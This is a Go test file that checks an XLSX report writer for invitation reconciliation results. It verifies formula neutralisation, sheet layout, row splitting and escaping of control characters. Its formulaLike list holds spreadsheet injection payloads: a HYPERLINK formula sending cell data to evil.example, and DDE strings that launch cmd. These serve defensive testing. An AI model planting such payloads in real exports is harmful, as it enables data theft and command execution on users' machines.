package report

import (
	"fmt"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/invitesync/invitesync/reconcile"
)

// formulaLike are values a spreadsheet would take for a formula if stored raw.
var formulaLike = []string{
	`=HYPERLINK("https://evil.example/?x="&A1,"click me")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

func xlsxHostileResult() *reconcile.Result {
	res := sampleResult()
	for i, v := range formulaLike {
		res.Actions = append(res.Actions, reconcile.Action{
			Op: []reconcile.Op{reconcile.OpCreate, reconcile.OpRevoke, reconcile.OpReinvite}[i%3],
			// The email keeps the hostile text first: it is the first column.
			Email: v + "@example.com", Reason: v, InvitationID: v, Error: v, RequestID: v,
			Status: reconcile.StatusFailed, Attempts: i + 1,
		})
	}
	return res
}

func openXLSX(t *testing.T, res *reconcile.Result) *excelize.File {
	t.Helper()
	t.Setenv("GITHUB_STEP_SUMMARY", "")
	dir := t.TempDir()
	if _, err := Write(dir, []string{"xlsx"}, res); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(filepath.Join(dir, "report.xlsx"))
	if err != nil {
		t.Fatalf("report.xlsx does not open: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestXLSXNeutralisesFormulas(t *testing.T) {
	f := openXLSX(t, xlsxHostileResult())
	seen := 0
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, err := f.GetCellFormula(sheet, cell)
				if err != nil {
					t.Fatal(err)
				}
				if formula != "" {
					t.Errorf("%s!%s holds formula %q", sheet, cell, formula)
				}
				if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
					t.Errorf("%s!%s = %q starts like a formula", sheet, cell, v)
				}
				for _, h := range formulaLike {
					if strings.HasPrefix(v, "'"+h) {
						seen++
					}
				}
			}
		}
	}
	// Each hostile action fills five text cells, in its kind's sheet and in failed.
	if want := len(formulaLike) * 5 * 2; seen != want {
		t.Errorf("%d neutralised cells, want %d", seen, want)
	}
}

func TestXLSXSheets(t *testing.T) {
	res := sampleResult()
	f := openXLSX(t, res)
	if got, want := f.GetSheetList(), append([]string{"Summary"}, xlsxKinds...); !reflect.DeepEqual(got, want) {
		t.Fatalf("sheets = %v, want %v", got, want)
	}

	// Summary: the counts of reconcile.Summarize.
	sum := reconcile.Summarize(res.Actions)
	rows, err := f.GetRows("Summary")
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range rows {
		if len(r) == 2 {
			got[r[0]] = r[1]
		}
	}
	for k, n := range summaryCounts(sum) {
		if got[k] != strconv.Itoa(n) {
			t.Errorf("Summary %s = %q, want %d", k, got[k], n)
		}
	}
	if got["provider"] != "confluent" || got["organization"] != "org-demo" || got["mode"] != "apply" || got["roster"] != "samples/roster.csv" {
		t.Errorf("Summary header = %v", got)
	}

	// Each kind's sheet: the header, then exactly that kind's actions in order.
	want := map[string][]string{}
	for _, a := range res.Actions {
		k := NewDocument(&reconcile.Result{Actions: []reconcile.Action{a}}).Action(0).Kind()
		want[k] = append(want[k], a.Email)
		if a.Status == reconcile.StatusFailed {
			want["failed"] = append(want["failed"], a.Email)
		}
	}
	for _, kind := range xlsxKinds {
		rows, err := f.GetRows(kind)
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) == 0 || !slices.Equal(rows[0], xlsxHeader) {
			t.Fatalf("%s header = %v", kind, rows)
		}
		var emails []string
		for _, r := range rows[1:] {
			if len(r) > 0 && r[0] != "" {
				emails = append(emails, r[0])
			}
		}
		if !slices.Equal(emails, want[kind]) {
			t.Errorf("%s rows = %v, want %v", kind, emails, want[kind])
		}

		panes, err := f.GetPanes(kind)
		if err != nil {
			t.Fatal(err)
		}
		if !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: header not frozen: %+v", kind, panes)
		}
		tables, err := f.GetTables(kind)
		if err != nil {
			t.Fatal(err)
		}
		last := max(len(want[kind])+1, 2)
		if len(tables) != 1 || tables[0].Range != "A1:I"+strconv.Itoa(last) {
			t.Errorf("%s: filter table = %+v, want one over A1:I%d", kind, tables, last)
		}
		wA, _ := f.GetColWidth(kind, "A")
		wC, _ := f.GetColWidth(kind, "C")
		if wA < float64(len("email")) || wC < float64(len("reason")) {
			t.Errorf("%s: column widths A=%v C=%v not set", kind, wA, wC)
		}
	}
	// The failed sheet carries the error text.
	rows, _ = f.GetRows("failed")
	if len(rows) < 2 || len(rows[1]) < 7 || rows[1][6] != "create: 500 Internal Server Error" {
		t.Errorf("failed sheet row = %v", rows)
	}
}

func TestCellText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"ada@example.com", "ada@example.com"},
		{"", ""},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
		{strings.Repeat("é", 40000), strings.Repeat("é", xlsxMaxCell-1) + "…"},
	}
	for _, tt := range tests {
		if got := cellText(tt.in); got != tt.want {
			t.Errorf("cellText(%.20q) = %.20q, want %.20q", tt.in, got, tt.want)
		}
	}
}

// TestXLSXSplitsAndFolds: a kind with more rows than a sheet holds goes on
// over "KIND (2)"... with a note naming the next sheet (the limit is lowered
// here; BenchmarkWrite1MActions writes 1.1M rows of one kind for real), and
// leave rows past xlsxFoldAbove are counted in a note row, never dropped
// silently. Changes are never folded.
func TestXLSXSplitsAndFolds(t *testing.T) {
	oldMax, oldFold := xlsxMaxRows, xlsxFoldAbove
	xlsxMaxRows, xlsxFoldAbove = 10, 12
	t.Cleanup(func() { xlsxMaxRows, xlsxFoldAbove = oldMax, oldFold })

	res := sampleResult()
	res.Actions = nil
	for i := range 25 {
		res.Actions = append(res.Actions, reconcile.Action{Op: reconcile.OpCreate, Email: fmt.Sprintf("c%02d@example.com", i), Status: reconcile.StatusPlanned})
	}
	for i := range 30 {
		res.Actions = append(res.Actions, reconcile.Action{Op: reconcile.OpLeave, Email: fmt.Sprintf("l%02d@example.com", i), Status: reconcile.StatusPlanned})
	}
	for i := range 9 {
		res.Actions = append(res.Actions, reconcile.Action{Op: reconcile.OpRevoke, Email: fmt.Sprintf("r%02d@example.com", i), Status: reconcile.StatusPlanned})
	}
	f := openXLSX(t, res)

	sheetEmails := func(sheet string) (emails []string, note string) {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatalf("sheet %s: %v", sheet, err)
		}
		if len(rows) > xlsxMaxRows {
			t.Errorf("sheet %s has %d rows, over the limit %d", sheet, len(rows), xlsxMaxRows)
		}
		for _, r := range rows[1:] {
			if strings.HasSuffix(r[0], "@example.com") {
				emails = append(emails, r[0])
			} else {
				note = r[0]
			}
		}
		return emails, note
	}
	want := []string{"Summary", "create", "create (2)", "create (3)", "create (4)", "reinvite", "revoke",
		"grant", "ungrant", "remove-member", "leave", "leave (2)", "unmanaged", "failed"}
	if got := f.GetSheetList(); !slices.Equal(got, want) {
		t.Fatalf("sheets = %v, want %v", got, want)
	}
	// 25 creates at 8 a sheet (header and note rows kept): 8, 8, 8, 1.
	var creates []string
	for i, name := range []string{"create", "create (2)", "create (3)", "create (4)"} {
		emails, note := sheetEmails(name)
		creates = append(creates, emails...)
		if i < 3 && note != fmt.Sprintf("continued on sheet %q: Excel holds at most 10 rows a sheet", fmt.Sprintf("create (%d)", i+2)) {
			t.Errorf("%s: note = %q", name, note)
		}
		if i == 3 && note != "" {
			t.Errorf("%s: last sheet has note %q", name, note)
		}
		tables, _ := f.GetTables(name)
		if len(tables) != 1 {
			t.Errorf("%s: %d tables", name, len(tables))
		}
	}
	if len(creates) != 25 || creates[0] != "c00@example.com" || creates[24] != "c24@example.com" {
		t.Errorf("creates across sheets = %v", creates)
	}
	// 9 revokes fill one sheet exactly: no note, no second sheet.
	if emails, note := sheetEmails("revoke"); len(emails) != 9 || note != "" {
		t.Errorf("revoke: %d rows, note %q", len(emails), note)
	}
	// 30 leaves, 12 listed (8 + 4 over two sheets), the rest counted.
	l1, n1 := sheetEmails("leave")
	l2, n2 := sheetEmails("leave (2)")
	if len(l1)+len(l2) != 12 || !strings.HasPrefix(n1, "continued on sheet") {
		t.Errorf("leave: %d + %d rows, note %q", len(l1), len(l2), n1)
	}
	if n2 != "…and 18 more leave rows (nothing to change) not listed: 12 of 30 are; report.json lists every row" {
		t.Errorf("leave fold note = %q", n2)
	}
}

// TestXLSXNeutralisesControls: escape sequences and control characters from
// the upstream reach no cell raw; tab, CR and LF stay cell text.
func TestXLSXNeutralisesControls(t *testing.T) {
	res := sampleResult()
	for _, h := range hostileStrings {
		res.Actions = append(res.Actions, reconcile.Action{Op: reconcile.OpCreate, Email: h + "@example.com", Reason: h, Error: h,
			InvitationID: h, RequestID: h, Status: reconcile.StatusFailed})
	}
	f := openXLSX(t, res)
	found := false
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, v := range row {
				for _, r := range v {
					if (r < 0x20 && r != '\t' && r != '\n' && r != '\r') || r == 0x7f || unsafeRune(r) {
						t.Errorf("%s: cell %q holds %U", sheet, v, r)
					}
				}
				if v == `\x1b[2J\x1b[H` {
					found = true
				}
			}
		}
	}
	if !found {
		t.Error("the escape sequence is not shown escaped")
	}
}
